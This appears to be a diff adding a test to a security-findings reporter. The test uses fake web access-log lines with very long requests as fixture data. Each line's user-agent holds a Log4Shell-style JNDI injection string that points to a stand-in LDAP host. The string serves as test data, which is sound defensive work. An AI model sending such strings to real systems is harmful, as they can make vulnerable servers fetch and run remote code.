@@ -94,3 +94,13 @@ test('findings that differ in what is shared otherwise are told apart', () => {
 
   expect(sent([events]).events).toEqual(events)
 })
+
+test('a finding with a request of many kilobytes is sent whole each time, so that none is kept', () => {
+  const request = (number: number): string =>
+    `203.0.113.7 - - [12/Dec/2021:04:25:41 +0000] "GET /${'x'.repeat(20_000)}${number} HTTP/1.1" 200 1 "-" "\${jndi:ldap://a.example/x}"\n`
+  const events = told([1, 2, 3].map(request).join(''))
+
+  const arrived = sent([events])
+  expect(arrived.events).toEqual(events)
+  expect(arrived.whole).toBe(3)
+})
